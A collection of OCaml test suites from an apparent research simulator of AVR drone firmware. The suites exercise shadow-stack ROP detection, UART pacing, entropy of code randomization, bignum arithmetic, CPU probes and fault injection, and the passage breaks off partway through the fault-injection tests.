    if overhead > 0 then Cpu.enable_shadow_stack cpu ~overhead_cycles:overhead;
    ignore (Cpu.run cpu ~max_cycles:50_000);
    let f0 = Cpu.watchdog_feeds cpu and c0 = Cpu.cycles cpu in
    ignore (Cpu.run cpu ~max_cycles:400_000);
    float_of_int (Cpu.cycles cpu - c0) /. float_of_int (Cpu.watchdog_feeds cpu - f0)
  in
  let base = loop_cycles 0 in
  let monitored = loop_cycles 8 in
  Alcotest.(check bool) "monitoring costs cycles" true (monitored > base *. 1.02);
  Alcotest.(check bool) "overhead within sane bounds" true (monitored < base *. 2.0)

(* ---- UART transmit pacing ---- *)

let test_tx_pacing_drops_unpaced_writes () =
  (* Back-to-back stores without the UDRE handshake lose bytes once
     pacing is on — the real hardware behaviour. *)
  let insns = Isa.[ Ldi (24, 0x41); Out (Io.udr, 24); Out (Io.udr, 24); Out (Io.udr, 24); Break ] in
  let cpu = load insns in
  Cpu.set_uart_tx_pacing cpu ~cycles_per_byte:100;
  run_all cpu;
  Alcotest.(check int) "only the first byte made it" 1 (String.length (Cpu.uart_take_tx cpu))

let test_tx_pacing_handshake_waits () =
  (* Polling UDRE (UCSRA bit 5) transmits everything. *)
  let insns =
    Isa.[
      Ldi (24, 0x42); Ldi (16, 3);
      (* word 2: *) Sbis (Io.ucsra, 5); Rjmp (-2); Out (Io.udr, 24);
      Dec 16; Brbc (1, -5) (* brne back to the sbis *); Break;
    ]
  in
  let cpu = load insns in
  Cpu.set_uart_tx_pacing cpu ~cycles_per_byte:50;
  run_all cpu;
  Alcotest.(check string) "all three bytes" "BBB" (Cpu.uart_take_tx cpu)

let test_firmware_telemetry_with_pacing () =
  (* The runtime's tx helpers honour the handshake: telemetry stays CRC
     clean with a realistically slow wire. *)
  let b = Helpers.build_mavr () in
  let cpu = Cpu.create () in
  Cpu.load_program cpu b.image.Image.code;
  (* 16 MHz / 5.76 kB/s (57600 baud) ~ 2700 cycles per byte; use a milder
     rate so the test stays quick.  Parse the stream from boot — cutting
     the TX buffer mid-frame would masquerade as corruption. *)
  Cpu.set_uart_tx_pacing cpu ~cycles_per_byte:300;
  ignore (Cpu.run cpu ~max_cycles:1_500_000);
  let parser = Mavr_mavlink.Parser.create () in
  let frames = Mavr_mavlink.Parser.feed parser (Cpu.uart_take_tx cpu) in
  let stats = Mavr_mavlink.Parser.stats parser in
  Alcotest.(check int) "no CRC errors on a slow wire" 0 stats.crc_errors;
  Alcotest.(check int) "no lost bytes" 0 stats.bytes_dropped;
  Alcotest.(check bool) "frames still flow" true (List.length frames > 2)

(* ---- padding entropy (§VIII-B) ---- *)

let test_padding_entropy () =
  let base = Mavr_core.Security.entropy_bits ~n:800 in
  let padded = Mavr_core.Security.entropy_bits_with_padding ~n:800 ~slack_bytes:4096 in
  Alcotest.(check bool) "padding adds entropy" true (padded > base);
  Alcotest.(check bool) "zero slack adds nothing" true
    (Float.abs (Mavr_core.Security.entropy_bits_with_padding ~n:800 ~slack_bytes:0 -. base) < 1e-9);
  (* The paper's conclusion: the permutation dominates. *)
  Alcotest.(check bool) "factorial term dominates" true (padded -. base < base /. 2.0)

let prop_padding_monotone =
  QCheck.Test.make ~name:"padding entropy monotone in slack" ~count:50
    QCheck.(pair (int_range 2 500) (int_range 0 10_000))
    (fun (n, slack) ->
      Mavr_core.Security.entropy_bits_with_padding ~n ~slack_bytes:(slack + 64)
      > Mavr_core.Security.entropy_bits_with_padding ~n ~slack_bytes:slack)

let () =
  Alcotest.run "extensions"
    [
      ( "new-instructions",
        [
          Alcotest.test_case "bst/bld" `Quick test_bst_bld;
          Alcotest.test_case "sbrc/sbrs" `Quick test_sbrc_sbrs;
          Alcotest.test_case "elpm above 64K" `Quick test_elpm_high_flash;
          Alcotest.test_case "elpm Z+ carries RAMPZ" `Quick test_elpm_postinc_carries_rampz;
          Alcotest.test_case "roundtrip" `Quick test_new_insn_roundtrip;
        ] );
      ( "eeprom",
        [
          Alcotest.test_case "cpu-level read/write" `Quick test_eeprom_cpu_level;
          Alcotest.test_case "erased reads 0xFF" `Quick test_eeprom_erased_reads_ff;
          Alcotest.test_case "CFG_SAVE message" `Quick test_cfg_save_message;
          Alcotest.test_case "config survives reflash" `Quick test_config_survives_reflash;
        ] );
      ( "shadow-stack",
        [
          Alcotest.test_case "no false positives" `Quick test_shadow_stack_benign;
          Alcotest.test_case "detects the stealthy ROP" `Quick test_shadow_stack_detects_rop;
          Alcotest.test_case "overhead measurable" `Quick test_shadow_stack_overhead_measurable;
        ] );
      ( "uart-pacing",
        [
          Alcotest.test_case "unpaced writes dropped" `Quick test_tx_pacing_drops_unpaced_writes;
          Alcotest.test_case "handshake waits" `Quick test_tx_pacing_handshake_waits;
          Alcotest.test_case "firmware telemetry on slow wire" `Quick
            test_firmware_telemetry_with_pacing;
        ] );
      ( "padding-entropy",
        [
          Alcotest.test_case "adds entropy, factorial dominates" `Quick test_padding_entropy;
          Helpers.qtest prop_padding_monotone;
        ] );
    ]
