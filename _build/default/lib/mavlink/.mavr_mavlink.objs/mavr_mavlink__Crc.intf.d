lib/mavlink/crc.mli:
