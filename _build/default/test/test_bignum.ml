module Nat = Mavr_bignum.Nat

let check_int msg expected actual = Alcotest.(check int) msg expected actual
let check_str msg expected actual = Alcotest.(check string) msg expected actual

let test_of_to_int () =
  check_int "roundtrip 0" 0 (Nat.to_int Nat.zero);
  check_int "roundtrip 1" 1 (Nat.to_int Nat.one);
  check_int "roundtrip 42" 42 (Nat.to_int (Nat.of_int 42));
  check_int "roundtrip large" 123_456_789_012_345 (Nat.to_int (Nat.of_int 123_456_789_012_345));
  Alcotest.check_raises "negative rejected" (Invalid_argument "Nat.of_int: negative") (fun () ->
      ignore (Nat.of_int (-1)))

let test_to_string () =
  check_str "zero" "0" (Nat.to_string Nat.zero);
  check_str "small" "7" (Nat.to_string (Nat.of_int 7));
  check_str "limb boundary" "1000000000" (Nat.to_string (Nat.of_int 1_000_000_000));
  check_str "two limbs" "123456789987654321" (Nat.to_string (Nat.of_int 123456789987654321))

let test_of_string () =
  check_str "parse" "98765432109876543210"
    (Nat.to_string (Nat.of_string "98765432109876543210"));
  check_int "parse small" 12345 (Nat.to_int (Nat.of_string "12345"));
  Alcotest.check_raises "empty rejected" (Invalid_argument "Nat.of_string: empty") (fun () ->
      ignore (Nat.of_string ""))

let test_add_sub () =
  let a = Nat.of_string "999999999999999999" in
  let b = Nat.of_int 1 in
  check_str "carry chain" "1000000000000000000" (Nat.to_string (Nat.add a b));
  check_str "sub undoes add" (Nat.to_string a) (Nat.to_string (Nat.sub (Nat.add a b) b));
  check_str "a - a" "0" (Nat.to_string (Nat.sub a a));
  Alcotest.check_raises "negative result rejected"
    (Invalid_argument "Nat.sub: would be negative") (fun () -> ignore (Nat.sub b a))

let test_mul () =
  let a = Nat.of_string "123456789123456789" in
  let b = Nat.of_string "987654321987654321" in
  (* Verified with independent bignum arithmetic. *)
  check_str "big product" "121932631356500531347203169112635269"
    (Nat.to_string (Nat.mul a b));
  check_str "by zero" "0" (Nat.to_string (Nat.mul a Nat.zero));
  check_str "by one" (Nat.to_string a) (Nat.to_string (Nat.mul a Nat.one));
  check_str "mul_int matches mul" (Nat.to_string (Nat.mul a (Nat.of_int 77)))
    (Nat.to_string (Nat.mul_int a 77))

let test_divmod () =
  let a = Nat.of_string "1000000000000000000000001" in
  let q, r = Nat.divmod_int a 7 in
  check_str "q*7+r = a" (Nat.to_string a) (Nat.to_string (Nat.add (Nat.mul_int q 7) (Nat.of_int r)));
  let q2, r2 = Nat.divmod_int (Nat.of_int 17) 5 in
  check_int "17/5" 3 (Nat.to_int q2);
  check_int "17 mod 5" 2 r2

let test_factorial () =
  check_int "5!" 120 (Nat.to_int (Nat.factorial 5));
  check_int "10!" 3628800 (Nat.to_int (Nat.factorial 10));
  check_str "20!" "2432902008176640000" (Nat.to_string (Nat.factorial 20));
  check_str "30!" "265252859812191058636308480000000" (Nat.to_string (Nat.factorial 30));
  (* 800! has 1977 decimal digits. *)
  check_int "800! digit count" 1977 (Nat.digits (Nat.factorial 800))

let test_compare () =
  Alcotest.(check bool) "lt" true (Nat.compare (Nat.of_int 5) (Nat.of_int 9) < 0);
  Alcotest.(check bool) "gt across limbs" true
    (Nat.compare (Nat.of_string "10000000000") (Nat.of_int 5) > 0);
  Alcotest.(check bool) "equal" true (Nat.equal (Nat.of_int 123) (Nat.of_int 123))

let test_log2 () =
  let approx msg expected actual tolerance =
    if Float.abs (expected -. actual) > tolerance then
      Alcotest.failf "%s: expected %.4f got %.4f" msg expected actual
  in
  approx "log2 1024" 10.0 (Nat.log2 (Nat.of_int 1024)) 1e-9;
  approx "log2 factorial consistency"
    (Nat.log2 (Nat.factorial 100))
    (Nat.log2_factorial 100) 1e-6;
  (* The paper's entropy figure: 800 symbols -> 6567 bits (§VIII-B). *)
  approx "paper entropy 800!" 6567.0 (Nat.log2_factorial 800) 5.0

let prop_add_commutative =
  QCheck.Test.make ~name:"add commutative" ~count:200
    QCheck.(pair (int_bound 1_000_000_000) (int_bound 1_000_000_000))
    (fun (a, b) ->
      Nat.equal (Nat.add (Nat.of_int a) (Nat.of_int b)) (Nat.add (Nat.of_int b) (Nat.of_int a)))

let prop_mul_matches_int =
  QCheck.Test.make ~name:"mul matches native int" ~count:200
    QCheck.(pair (int_bound 100_000) (int_bound 100_000))
    (fun (a, b) -> Nat.to_int (Nat.mul (Nat.of_int a) (Nat.of_int b)) = a * b)

let prop_string_roundtrip =
  QCheck.Test.make ~name:"to_string/of_string roundtrip" ~count:200
    QCheck.(int_bound max_int)
    (fun a -> Nat.to_int (Nat.of_string (Nat.to_string (Nat.of_int a))) = a)

let prop_divmod =
  QCheck.Test.make ~name:"divmod invariant" ~count:200
    QCheck.(pair (int_bound 1_000_000_000_000) (int_range 1 100_000))
    (fun (a, k) ->
      let q, r = Nat.divmod_int (Nat.of_int a) k in
      r >= 0 && r < k && (Nat.to_int q * k) + r = a)

let () =
  Alcotest.run "bignum"
    [
      ( "nat",
        [
          Alcotest.test_case "of_int/to_int" `Quick test_of_to_int;
          Alcotest.test_case "to_string" `Quick test_to_string;
          Alcotest.test_case "of_string" `Quick test_of_string;
          Alcotest.test_case "add/sub" `Quick test_add_sub;
          Alcotest.test_case "mul" `Quick test_mul;
          Alcotest.test_case "divmod_int" `Quick test_divmod;
          Alcotest.test_case "factorial" `Quick test_factorial;
          Alcotest.test_case "compare" `Quick test_compare;
          Alcotest.test_case "log2" `Quick test_log2;
        ] );
      ( "nat-properties",
        List.map Helpers.qtest
          [ prop_add_commutative; prop_mul_matches_int; prop_string_roundtrip; prop_divmod ] );
    ]
