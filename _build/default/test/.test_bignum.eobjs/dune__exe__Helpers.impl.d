test/helpers.ml: Alcotest Format Lazy Mavr_avr Mavr_core Mavr_firmware Mavr_mavlink Mavr_obj QCheck_alcotest
