test/test_master.mli:
