test/test_rop.mli:
