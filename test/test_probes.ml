(* The CPU probe bundle and the tap-based Trace recorder: exact
   instruction-mix accounting, architectural invariance of the
   instrumentation, the flight-recorder dump on a ROP-induced fault, and
   tracing through the batched run loop. *)

module Cpu = Mavr_avr.Cpu
module Isa = Mavr_avr.Isa
module Opcode = Mavr_avr.Opcode
module Probes = Mavr_avr.Probes
module Trace = Mavr_avr.Trace
module Metrics = Mavr_telemetry.Metrics
module Json = Mavr_telemetry.Json
module Rop = Mavr_core.Rop

let load insns =
  let cpu = Cpu.create () in
  let code = String.concat "" (List.map Opcode.encode_bytes insns) in
  Cpu.load_program cpu code;
  cpu

let contains ~affix s =
  let n = String.length affix and m = String.length s in
  let rec go i = i + n <= m && (String.sub s i n = affix || go (i + 1)) in
  n = 0 || go 0

let counter_value snap name =
  match List.assoc_opt name snap with
  | Some (Metrics.Counter_value n) -> n
  | Some v -> Alcotest.failf "%s is not a counter: %a" name Metrics.pp_value v
  | None -> Alcotest.failf "%s not registered" name

(* ---- instruction mix ---- *)

let test_insn_mix_exact () =
  (* A fixed straight-line program with a known class breakdown. *)
  let cpu = load Isa.[ Ldi (16, 1); Dec 16; Nop; Push 16; Pop 16; Break ] in
  let registry = Metrics.create () in
  let _p = Probes.attach ~registry cpu in
  ignore (Cpu.run cpu ~max_cycles:1_000);
  let snap = Metrics.snapshot registry in
  Alcotest.(check int) "total" 6 (counter_value snap "avr.insn.total");
  Alcotest.(check int) "transfer (ldi)" 1 (counter_value snap "avr.insn.transfer");
  Alcotest.(check int) "alu (dec)" 1 (counter_value snap "avr.insn.alu");
  Alcotest.(check int) "system (nop+break)" 2 (counter_value snap "avr.insn.system");
  Alcotest.(check int) "store (push)" 1 (counter_value snap "avr.insn.store");
  Alcotest.(check int) "load (pop)" 1 (counter_value snap "avr.insn.load");
  Alcotest.(check int) "break halt counted" 1 (counter_value snap "avr.halt.break");
  (* The per-class counters must partition the total. *)
  let by_class =
    Array.fold_left
      (fun acc c -> acc + counter_value snap ("avr.insn." ^ c))
      0 Probes.class_names
  in
  Alcotest.(check int) "classes partition total" 6 by_class

let arch_state cpu =
  ( Cpu.pc cpu, Cpu.sp cpu, Cpu.sreg cpu, Cpu.cycles cpu, Cpu.instructions_retired cpu,
    Cpu.halted cpu, List.init 32 (Cpu.reg cpu) )

let test_probes_architecturally_invisible () =
  (* Instrumentation must not perturb execution: the same firmware run
     with and without the bundle ends in the identical state. *)
  let image = (Helpers.build_mavr ()).image in
  let run ~instrument =
    let cpu = Cpu.create () in
    Cpu.load_program cpu image.Mavr_obj.Image.code;
    if instrument then ignore (Probes.attach ~registry:(Metrics.create ()) cpu);
    ignore (Cpu.run_until_halt cpu ~max_cycles:500_000);
    arch_state cpu
  in
  Alcotest.(check bool) "identical end state" true
    (run ~instrument:true = run ~instrument:false)

let test_interrupt_latency_recorded () =
  let cpu = Helpers.boot (Helpers.build_mavr ()).image in
  let registry = Metrics.create () in
  let _p = Probes.attach ~registry cpu in
  ignore (Cpu.run_until_halt cpu ~max_cycles:500_000);
  let snap = Metrics.snapshot registry in
  Alcotest.(check bool) "timer interrupts taken" true
    (counter_value snap "avr.irq.taken" > 0);
  match List.assoc_opt "avr.irq.latency_cycles" snap with
  | Some (Metrics.Histogram_value h) ->
      Alcotest.(check int) "one latency sample per irq" (counter_value snap "avr.irq.taken")
        h.Metrics.count;
      Alcotest.(check bool) "latency bounded" true (h.Metrics.max < 100)
  | _ -> Alcotest.fail "latency histogram missing"

(* ---- flight recorder on a ROP-induced fault ---- *)

let test_fault_dump_on_crash_probe () =
  let b, ti, _obs = Helpers.attack_target () in
  let cpu = Helpers.boot b.image in
  let registry = Metrics.create () in
  let p = Probes.attach ~recorder_capacity:32 ~registry cpu in
  Alcotest.(check bool) "no dump before fault" true (Probes.last_fault_dump p = None);
  List.iter (Cpu.uart_send cpu) (Rop.crash_probe ti);
  (match Cpu.run cpu ~max_cycles:3_000_000 with
  | `Halted _ -> ()
  | `Budget_exhausted -> Alcotest.fail "crash probe did not fault the CPU");
  Alcotest.(check int) "one fault seen" 1 (Probes.faults_seen p);
  Alcotest.(check int) "wild-pc halt counted" 1
    (counter_value (Metrics.snapshot registry) "avr.halt.wild_pc");
  (match Probes.last_fault_dump p with
  | None -> Alcotest.fail "no dump captured at halt"
  | Some dump ->
      Alcotest.(check bool) "dump names the halt" true
        (contains ~affix:"wild PC" dump || contains ~affix:"wild_pc" dump));
  (* The ring retains the instructions leading up to the fault. *)
  let events = Probes.flight_record p in
  Alcotest.(check int) "full window retained" 32 (List.length events);
  let j = Probes.dump_to_json p in
  Alcotest.(check bool) "json halt reason" true
    (Option.bind (Json.path [ "halt" ] j) Json.to_str <> None);
  match Json.path [ "flight_record"; "events" ] j with
  | Some (Json.List l) -> Alcotest.(check int) "json events" 32 (List.length l)
  | _ -> Alcotest.fail "json flight record missing"

(* ---- Trace on the instruction tap ---- *)

let test_trace_batched_run_wraparound () =
  (* A two-instruction infinite loop driven by the batched entry point:
     the recorder must see every executed instruction and keep only the
     most recent [limit]. *)
  let cpu = load Isa.[ Nop; Rjmp (-2) ] in
  let r = Trace.recorder ~limit:8 in
  Trace.attach r cpu;
  ignore (Cpu.run cpu ~max_cycles:100);
  let events = Trace.events r in
  Alcotest.(check int) "ring bounded" 8 (List.length events);
  List.iter
    (fun (e : Trace.event) ->
      Alcotest.(check bool) "loop addresses only" true (e.byte_addr = 0 || e.byte_addr = 2))
    events;
  let cycles = List.map (fun (e : Trace.event) -> e.cycle) events in
  Alcotest.(check bool) "cycles ascend" true (List.sort compare cycles = cycles);
  (* Detach stops recording. *)
  Trace.detach cpu;
  ignore (Cpu.run cpu ~max_cycles:100);
  Alcotest.(check int) "detached" 8 (List.length (Trace.events r))

let test_step_traced_still_works () =
  let cpu = load Isa.[ Ldi (17, 9); Nop; Break ] in
  let r = Trace.recorder ~limit:4 in
  Trace.step_traced r cpu;
  Trace.step_traced r cpu;
  match Trace.events r with
  | [ a; b ] ->
      Alcotest.(check int) "first at 0" 0 a.Trace.byte_addr;
      Alcotest.(check int) "second at 2" 2 b.Trace.byte_addr;
      Alcotest.(check int) "r17 written" 9 (Cpu.reg cpu 17)
  | l -> Alcotest.failf "expected 2 events, got %d" (List.length l)

let () =
  Alcotest.run "probes"
    [
      ( "bundle",
        [
          Alcotest.test_case "exact instruction mix" `Quick test_insn_mix_exact;
          Alcotest.test_case "architecturally invisible" `Quick test_probes_architecturally_invisible;
          Alcotest.test_case "interrupt latency" `Quick test_interrupt_latency_recorded;
        ] );
      ( "flight-recorder",
        [ Alcotest.test_case "dump on ROP fault" `Quick test_fault_dump_on_crash_probe ] );
      ( "trace",
        [
          Alcotest.test_case "batched run + wraparound" `Quick test_trace_batched_run_wraparound;
          Alcotest.test_case "step_traced compat" `Quick test_step_traced_still_works;
        ] );
    ]
