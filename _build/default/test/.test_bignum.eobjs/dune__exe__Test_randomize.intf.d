test/test_randomize.mli:
