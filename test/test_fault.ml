(* Tests for the fault-injection layer: the lossy channel model, the SEU
   process, the reflash-stream faults with their verify-and-retry
   recovery, the per-trial injector, and the fault-intensity axis of the
   Monte Carlo campaign. *)

module Splitmix = Mavr_prng.Splitmix
module Channel = Mavr_fault.Channel
module Seu = Mavr_fault.Seu
module Reflash = Mavr_fault.Reflash
module Profile = Mavr_fault.Profile
module Injector = Mavr_fault.Injector
module Cpu = Mavr_avr.Cpu
module Memory = Mavr_avr.Memory
module Sc = Mavr_sim.Scenario
module Montecarlo = Mavr_sim.Montecarlo

let rng seed = Splitmix.create ~seed

(* ---- channel ---- *)

let test_channel_clean_is_identity () =
  let ch = Channel.create ~rng:(rng 1) Channel.clean in
  let payload = "the quick brown fox \x00\xff\xfe jumps" in
  for now = 0 to 9 do
    Alcotest.(check string) "wire" payload (Channel.transmit ch ~now payload)
  done;
  let st = Channel.stats ch in
  Alcotest.(check int) "no flips" 0 st.bits_flipped;
  Alcotest.(check int) "no drops" 0 st.bytes_dropped;
  Alcotest.(check int) "no dups" 0 st.bytes_duplicated;
  Alcotest.(check int) "no bursts" 0 st.bursts;
  Alcotest.(check int) "no delays" 0 st.chunks_delayed;
  Alcotest.(check int) "bytes conserved" st.bytes_in st.bytes_out

let noisy =
  {
    Channel.bit_flip_ppm = 40_000;
    drop_ppm = 20_000;
    dup_ppm = 20_000;
    burst_ppm = 100_000;
    burst_len_max = 6;
    jitter_max_ticks = 3;
  }

let test_channel_deterministic () =
  (* Same seed, same params, same traffic => bit-identical output: the
     campaign's jobs-invariance rests on this. *)
  let a = Channel.create ~rng:(rng 77) noisy in
  let b = Channel.create ~rng:(rng 77) noisy in
  for now = 0 to 200 do
    let chunk = Printf.sprintf "chunk-%04d-%s" now (String.make (now mod 37) 'x') in
    Alcotest.(check string) "same wire" (Channel.transmit a ~now chunk)
      (Channel.transmit b ~now chunk)
  done;
  Alcotest.(check bool) "same stats" true (Channel.stats a = Channel.stats b)

let test_channel_empty_consumes_no_randomness () =
  (* "" must pass through without touching the rng, so an idle tick
     cannot shift the fault stream of later traffic. *)
  let a = Channel.create ~rng:(rng 5) noisy in
  let b = Channel.create ~rng:(rng 5) noisy in
  Alcotest.(check string) "empty passes" "" (Channel.corrupt a "");
  for _ = 1 to 50 do
    ignore (Channel.corrupt a "")
  done;
  for now = 0 to 20 do
    let chunk = String.make 40 (Char.chr (0x30 + now)) in
    Alcotest.(check string) "stream unshifted" (Channel.transmit a ~now chunk)
      (Channel.transmit b ~now chunk)
  done

let test_channel_extremes () =
  (* Certain drop: everything vanishes. *)
  let all_drop = { Channel.clean with drop_ppm = 1_000_000 } in
  let ch = Channel.create ~rng:(rng 2) all_drop in
  Alcotest.(check string) "all dropped" "" (Channel.corrupt ch (String.make 64 'a'));
  Alcotest.(check int) "drops counted" 64 (Channel.stats ch).bytes_dropped;
  (* Certain duplication: length doubles, every byte twinned. *)
  let all_dup = { Channel.clean with dup_ppm = 1_000_000 } in
  let ch = Channel.create ~rng:(rng 3) all_dup in
  let out = Channel.corrupt ch "abc" in
  Alcotest.(check string) "all duplicated" "aabbcc" out;
  (* Certain flip: every byte differs from the original in exactly one
     bit. *)
  let all_flip = { Channel.clean with bit_flip_ppm = 1_000_000 } in
  let ch = Channel.create ~rng:(rng 4) all_flip in
  let input = String.make 32 '\x55' in
  let out = Channel.corrupt ch input in
  Alcotest.(check int) "length kept" 32 (String.length out);
  String.iteri
    (fun i c ->
      let diff = Char.code c lxor Char.code input.[i] in
      if not (diff <> 0 && diff land (diff - 1) = 0) then
        Alcotest.failf "byte %d: expected a single flipped bit, got xor %#x" i diff)
    out;
  Alcotest.(check int) "flips counted" 32 (Channel.stats ch).bits_flipped

let test_channel_burst_keeps_length () =
  let bursty = { Channel.clean with burst_ppm = 1_000_000; burst_len_max = 8 } in
  let ch = Channel.create ~rng:(rng 6) bursty in
  for i = 1 to 20 do
    let input = String.make (8 + i) 'z' in
    let out = Channel.corrupt ch input in
    Alcotest.(check int) "length preserved" (String.length input) (String.length out)
  done;
  Alcotest.(check int) "every chunk bursted" 20 (Channel.stats ch).bursts

let test_channel_jitter_preserves_order () =
  (* Jitter only: no bytes are lost and delivery order equals send
     order even when later chunks draw smaller delays. *)
  let jittery = { Channel.clean with jitter_max_ticks = 4 } in
  let ch = Channel.create ~rng:(rng 9) jittery in
  let sent = Buffer.create 256 and got = Buffer.create 256 in
  for now = 0 to 49 do
    let chunk = Printf.sprintf "<%02d>" now in
    Buffer.add_string sent chunk;
    Buffer.add_string got (Channel.transmit ch ~now chunk)
  done;
  (* Drain the tail still in flight. *)
  for now = 50 to 60 do
    Buffer.add_string got (Channel.due ch ~now)
  done;
  Alcotest.(check int) "drained" 0 (Channel.in_flight ch);
  Alcotest.(check string) "order and content preserved" (Buffer.contents sent)
    (Buffer.contents got);
  Alcotest.(check bool) "some chunks were delayed" true
    ((Channel.stats ch).chunks_delayed > 0)

(* ---- SEU ---- *)

let test_seu_certain_upsets () =
  let cpu = Cpu.create () in
  Cpu.load_program cpu (Helpers.build_mavr ()).image.code;
  let before_flash = Memory.flash_contents (Cpu.mem cpu) in
  let dev = Cpu.device cpu in
  let sram_before =
    Array.init dev.Mavr_avr.Device.sram_bytes (fun i ->
        Cpu.data_peek cpu (dev.Mavr_avr.Device.sram_base + i))
  in
  let s = Seu.create ~rng:(rng 11) { Seu.sram_flip_ppm = 1_000_000; flash_flip_ppm = 1_000_000 } in
  Seu.tick s cpu;
  Alcotest.(check bool) "both upsets recorded" true (Seu.stats s = { Seu.sram_flips = 1; flash_flips = 1 });
  (* Exactly one SRAM byte changed, by exactly one bit. *)
  let changed = ref [] in
  Array.iteri
    (fun i old ->
      let now = Cpu.data_peek cpu (dev.Mavr_avr.Device.sram_base + i) in
      if now <> old then changed := (i, old lxor now) :: !changed)
    sram_before;
  (match !changed with
  | [ (_, diff) ] ->
      Alcotest.(check bool) "single bit" true (diff land (diff - 1) = 0)
  | l -> Alcotest.failf "expected one SRAM byte changed, got %d" (List.length l));
  (* Exactly one flash bit changed, inside the programmed image. *)
  let after_flash = Memory.flash_contents (Cpu.mem cpu) in
  let flash_diffs = ref [] in
  String.iteri
    (fun i c ->
      if c <> after_flash.[i] then
        flash_diffs := (i, Char.code c lxor Char.code after_flash.[i]) :: !flash_diffs)
    before_flash;
  (match !flash_diffs with
  | [ (addr, diff) ] ->
      Alcotest.(check bool) "single bit" true (diff land (diff - 1) = 0);
      Alcotest.(check bool) "inside the image" true (addr < Cpu.program_size cpu)
  | l -> Alcotest.failf "expected one flash byte changed, got %d" (List.length l))

let test_seu_off_is_noop () =
  let cpu = Cpu.create () in
  Cpu.load_program cpu (Helpers.build_mavr ()).image.code;
  let before = Memory.flash_contents (Cpu.mem cpu) in
  let epoch = Memory.flash_epoch (Cpu.mem cpu) in
  let s = Seu.create ~rng:(rng 12) Seu.off in
  for _ = 1 to 100 do
    Seu.tick s cpu
  done;
  Alcotest.(check bool) "no upsets" true (Seu.stats s = { Seu.sram_flips = 0; flash_flips = 0 });
  Alcotest.(check string) "flash untouched" before (Memory.flash_contents (Cpu.mem cpu));
  Alcotest.(check int) "epoch untouched" epoch (Memory.flash_epoch (Cpu.mem cpu))

let test_seu_flash_flip_bumps_epoch () =
  (* A flash upset must go through the page-write path so the predecode
     cache notices — the bug this guards against is an SEU model poking
     the flash array behind the decode cache's back. *)
  let cpu = Cpu.create () in
  Cpu.load_program cpu (Helpers.build_mavr ()).image.code;
  let epoch = Memory.flash_epoch (Cpu.mem cpu) in
  let s = Seu.create ~rng:(rng 13) { Seu.sram_flip_ppm = 0; flash_flip_ppm = 1_000_000 } in
  Seu.tick s cpu;
  Alcotest.(check bool) "flash epoch advanced" true (Memory.flash_epoch (Cpu.mem cpu) > epoch)

(* ---- reflash stream ---- *)

let test_reflash_clean_stream () =
  let r = Reflash.create ~rng:(rng 20) Reflash.off in
  let code = (Helpers.build_mavr ()).image.code in
  let landed, corrupted = Reflash.stream r ~page_bytes:256 code in
  Alcotest.(check string) "bytes land verbatim" code landed;
  Alcotest.(check int) "no corruption" 0 corrupted;
  Alcotest.(check int) "crc stable" (Reflash.crc16 code) (Reflash.crc16 landed)

let test_reflash_certain_corruption () =
  let r = Reflash.create ~rng:(rng 21) { Reflash.page_corrupt_ppm = 1_000_000; max_retries = 3 } in
  let code = (Helpers.build_mavr ()).image.code in
  let page_bytes = 256 in
  let pages = (String.length code + page_bytes - 1) / page_bytes in
  let landed, corrupted = Reflash.stream r ~page_bytes code in
  Alcotest.(check int) "every page hit" pages corrupted;
  Alcotest.(check int) "length preserved" (String.length code) (String.length landed);
  let st = Reflash.stats r in
  Alcotest.(check int) "session counted" 1 st.sessions;
  Alcotest.(check int) "pages counted" pages st.pages_streamed;
  Alcotest.(check int) "corruptions counted" pages st.pages_corrupted

let test_reflash_recovery_lands_clean_image () =
  (* Certain per-page corruption: every stream fails its CRC verify, the
     master burns its retries and falls back — and the application must
     still boot and fly on a byte-exact image. *)
  let level =
    {
      Profile.level_off with
      name = "reflash-hell";
      reflash = { Reflash.page_corrupt_ppm = 1_000_000; max_retries = 2 };
    }
  in
  let image = (Helpers.build_mavr ()).image in
  let faults = Injector.create ~seed:31 level in
  let s = Sc.create ~faults ~image (Sc.Mavr Mavr_core.Master.default_config) in
  Sc.run s ~ms:800.0;
  let r = Sc.report s in
  ignore image;
  Alcotest.(check bool) "app alive" true (not r.app_halted);
  Alcotest.(check bool) "telemetry flowed" true (r.gcs_frames > 0);
  (match Sc.master s with
  | None -> Alcotest.fail "master missing"
  | Some m ->
      (* The master randomizes at boot, so compare against what it
         intended to program, not the provisioned image. *)
      let want = (Mavr_core.Master.current_image m).Mavr_obj.Image.code in
      Alcotest.(check string) "flash is byte-exact despite the faulty link" want
        (String.sub (Memory.flash_contents (Cpu.mem (Sc.app s))) 0 (String.length want));
      Alcotest.(check bool) "retries recorded" true (Mavr_core.Master.last_flash_retries m >= 1);
      Alcotest.(check bool) "fallback recorded" true (Mavr_core.Master.fallback_streams m >= 1));
  match Injector.reflash faults with
  | None -> Alcotest.fail "reflash faults should be armed"
  | Some rf ->
      let st = Reflash.stats rf in
      Alcotest.(check bool) "retries in the fault ledger" true (st.retries >= 1);
      Alcotest.(check bool) "fallback in the fault ledger" true (st.fallbacks >= 1)

let test_reflash_mild_retry_succeeds () =
  (* A moderate corruption rate: retries should usually rescue the
     session without falling back.  Deterministic seed chosen so at
     least one retry happens and no fallback is needed. *)
  let level =
    {
      Profile.level_off with
      name = "reflash-mild";
      reflash = { Reflash.page_corrupt_ppm = 60_000; max_retries = 5 };
    }
  in
  let image = (Helpers.build_mavr ()).image in
  let faults = Injector.create ~seed:8 level in
  let s = Sc.create ~faults ~image (Sc.Mavr Mavr_core.Master.default_config) in
  Sc.run s ~ms:400.0;
  let r = Sc.report s in
  ignore image;
  Alcotest.(check bool) "app alive" true (not r.app_halted);
  match Sc.master s with
  | None -> Alcotest.fail "master missing"
  | Some m ->
      let want = (Mavr_core.Master.current_image m).Mavr_obj.Image.code in
      Alcotest.(check string) "flash is byte-exact" want
        (String.sub (Memory.flash_contents (Cpu.mem (Sc.app s))) 0 (String.length want))

(* ---- injector ---- *)

let test_injector_clean_level_disarms_everything () =
  let i = Injector.create ~seed:1 Profile.level_off in
  Alcotest.(check bool) "no downlink" true (Injector.downlink i = None);
  Alcotest.(check bool) "no uplink" true (Injector.uplink i = None);
  Alcotest.(check bool) "no reflash" true (Injector.reflash i = None)

let test_injector_streams_independent () =
  (* Arming the channels must not perturb the SEU draw stream: both
     injectors share a seed and SEU params, one also carries severe
     channel noise; their upsets must land identically. *)
  let seu_params = { Seu.sram_flip_ppm = 200_000; flash_flip_ppm = 50_000 } in
  let quiet = { Profile.level_off with name = "seu-only"; seu = seu_params } in
  let noisy_level =
    { quiet with
      name = "seu+chan";
      downlink = noisy;
